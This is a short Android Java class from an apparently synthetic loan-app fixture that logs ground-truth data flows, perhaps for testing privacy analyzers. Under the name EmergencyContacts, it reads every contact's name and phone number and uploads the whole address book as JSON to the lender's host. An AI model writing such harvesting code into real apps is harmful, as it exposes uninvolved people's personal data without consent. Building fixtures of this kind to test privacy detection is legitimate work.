package com.example.loan;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import practice.Https;
import practice.Json;
import practice.TruthLog;

/** The address book: read and sent to the lender. */
final class EmergencyContacts {
    private static final Uri PHONES = Uri.parse("content://com.android.contacts/data/phones");

    private final Context mContext;

    EmergencyContacts(Context context) {
        mContext = context;
    }

    List<Map<String, Object>> read() {
        List<Map<String, Object>> found = new ArrayList<>();
        long since = TruthLog.now();
        try (Cursor cursor = mContext.getContentResolver()
                .query(PHONES, new String[] {"display_name", "data1"}, null, null, null)) {
            while (cursor.moveToNext()) {
                Map<String, Object> contact = new LinkedHashMap<>();
                contact.put("name", cursor.getString(0));
                contact.put("phone", cursor.getString(1));
                found.add(contact);
            }
        }
        TruthLog.access(LoanApplication.ACTOR, "contacts", since);
        return found;
    }

    void upload(String target) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("contacts", read());
        TruthLog.transmission(LoanApplication.ACTOR, "contacts", LoanApplication.HOST, "plain", List.of("json"));
        Https.post(LoanApplication.HOST, target, "application/json", Json.of(body));
    }
}
